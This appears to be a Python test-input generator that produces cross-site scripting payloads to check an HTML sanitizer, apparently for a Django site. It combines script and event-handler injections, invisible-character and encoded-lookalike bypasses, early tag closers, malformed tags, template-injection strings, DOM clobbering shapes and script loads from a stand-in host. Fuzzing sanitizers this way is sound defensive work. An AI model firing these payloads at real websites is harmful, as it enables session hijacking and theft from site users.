"""Signs that are not what they seem, tags that are not whole, and ends that come too early."""

from itertools import product

from .words import ELSEWHERE, RUN, quoted

SCRIPT = f"<script>{RUN}</script>"
PAYLOADS = (
    SCRIPT,
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
)
INVISIBLE = (
    "\0", "\x01", "\x0b", "\x1b", "\x7f", "\x85", "\xa0", "\xad", "\u034f", "\u180e", "\u200b",
    "\u200d", "\u2028", "\u202e", "\u2060", "\ufeff", "\ufffd", "\ufffe", "\U000e0041",
    "\U0010ffff",
)  # fmt: skip
LOOKALIKES = (
    ("<", "\uff1c"), ("<", "\u2039"), ("<", "<\u0338"), ("<", "\u02c2"), (">", "\uff1e"),
    ("s", "\u017f"), ("i", "\u0131"), ("i", "\u0456"), ("=", "\uff1d"), ("(", "\uff08"),
    ("<", "\xc0\xbc"), ("<", "\xe0\x80\xbc"), ("<", "+ADw-"), ("<", "\u2028<"), ("<", "%3C"),
    ("<", "%253C"), ("<", "\\u003c"), ("<", "\\x3c"), ("<", "&lt;"), ("<", "&amp;lt;"),
    ("<", "&#60"), ("<", "&#x3c;"), ("<", "&#0000060;"), ("<", "&LT"), ("<", "\x8b"),
    ("<", "\x1b(J<"),
)  # fmt: skip
ENDS = (
    '">', "'>", "--></p>", "</textarea>", "</script>", "</style>", "</title>", "</p></div></main>",
    "</body></html>", "</template>", "</iframe>", "</svg>", "</table>", "</select>", "]]>", "?>",
    "*/", "`>", '"/>', '\\">', "</main><main>", "</article></template></textarea></title>",
    "</xmp></noscript>", "&quot;>", '\0">',
)  # fmt: skip
BROKEN = (
    "<img src=x onerror={}", "<img src=x onerror={}//", '<img """><script>{}</script>">',
    "<<script>{}//<</script>", "<img src=x onerror={} <p>x</p>", "<script>{}",
    "<script src=//elsewhere.example/x.js", "<svg/onload={}", "<svg><script>{}",
    "<a href='x' onclick={}><a>x", "< img src=x onerror={}>", "<\nimg src=x onerror={}>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<scrscriptipt>{}</scrscriptipt>",
    "<script\x20type=x/y>{}</script\t\n>", "<sCrIpT>{}</ScRiPt foo>", "<img src='x' onerror='{}",
    '<img src="x` `<script>{}</script>"` `>', "<p/onclick={}/>x", "<x onclick={}>x",
    "<x:script xmlns:x=http://www.w3.org/1999/xhtml>{}</x:script>",
    "<img src=x:x onerror={} / / />", '<img ="><script>{}</script>">', "<!<script>{}</script>>",
    '<p title="x""onclick={}">x', "<p a='x'onclick={}>x", "<div><p<script>{}</script>>x",
    "<img\tsrc=x\tonerror\t=\t{}\t>", "<iframe/src=javascript:{}//<", "<b/><i onclick={}//",
)  # fmt: skip
TEMPLATES = (
    "{{% load x %}}{{{{ {0} }}}}", "{{{{ 7|add:{0} }}}}",
    "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "#{{{0}}}",
    "<p v-html='{0}' x-data x-init='{0}'>x</p>", '<p ng-app ng-init="{0}">x</p>',
    "<p hx-on:click={0} hx-get={1}>x</p>", "<p x-on:click={0} @click={0}>x</p>",
    "<p data-bind='html:{0}'>x</p>", "[[{0}]]", "<%- {0} %>", "{{{{{{{0}}}}}}}", "@{{{0}}}",
    "<p data-src={1}/x data-href=javascript:{0}>x</p>",
    "<p data-toggle=tooltip data-html=true title='<img src=x onerror={0}>'>x</p>",
    "{{% include '{1}' %}}", "{{% autoescape off %}}<svg onload={0}>",
    "{{% csrf_token %}}<script>{0}</script>", "{{{{ clinic|safe }}}}",
)  # fmt: skip
MADE_UP = (
    "x-card", "Ⅹ-card", "x:y", "1x", "x" * 300, "font-face", "annotation-xml", "customelement",
    "slot",
)  # fmt: skip
CLOBBERED = (
    "CKEDITOR", "clinicPhotos", "django", "document", "cookie", "body", "attributes", "children",
    "innerHTML", "parentNode", "getElementById", "__proto__", "constructor", "main-content",
    "id_body", "csrfmiddlewaretoken", "post_form", "forms", "location", "nodeName",
)  # fmt: skip
SHAPES = (
    "<form id={0}><input name={0}></form>",
    "<a id={0}></a><a id={0} name={0} href=javascript:hit()>x</a>",
    "<iframe name={0} srcdoc='<a id=x href=//elsewhere.example>'></iframe>",
    "<img name={0} id={0} src=x onerror=hit()>", "<h2 id={0}>x</h2><p class={0} name={0}>x</p>",
    "<object id={0} data=x></object><embed name={0}>",
)  # fmt: skip


def invisible_signs():
    for number, sign in enumerate(INVISIBLE):
        value = quoted(number, RUN)
        yield f"<scr{sign}ipt>{RUN}</script>"
        yield f"<{sign}img src=x onerror={value}>"
        yield f"<img src=x {sign}onerror={value}>"
        yield f"<img src=x onerror{sign}={value}>"
        yield f"<img src=x one{sign}rror={RUN}{sign}>"
        yield f'<a href="{sign}javascript:{RUN}">{number}</a>'
        yield f'<a href="java{sign}script:{RUN}">{number}</a>'


def lookalikes():
    for (sign, lookalike), payload in product(LOOKALIKES, PAYLOADS):
        yield payload.replace(sign, lookalike)


def early_ends():
    for end, payload in product(ENDS, PAYLOADS):
        yield f"{end}{payload}"
    for end in ENDS:
        yield f'<a href="/" title="{end.replace(chr(34), "&#34;")}{SCRIPT}">x</a>'


def broken_tags():
    for number, broken in enumerate(BROKEN):
        yield broken.format(RUN)
        yield f"<p>x{broken.format(RUN)}</p>"
        yield f"<table><tr><td>{broken.format(quoted(number, RUN))}</td></tr></table>"


def template_languages():
    for template in TEMPLATES:
        yield template.format(RUN, ELSEWHERE)
        yield f"<p>{template.format(RUN, ELSEWHERE)}</p>"


def clobbered_names():
    for name, shape in product(CLOBBERED, SHAPES):
        yield shape.format(name)


def made_up_elements():
    for name in MADE_UP:
        yield f"<{name} onclick={RUN} tabindex=0 autofocus onfocus={RUN}>x</{name}>"
        yield f"<{name} style=position:fixed is={name} src={ELSEWHERE}>{SCRIPT}</{name}>"
        yield f"<p is={name} part=x slot=x onslotchange={RUN}>x</p>"
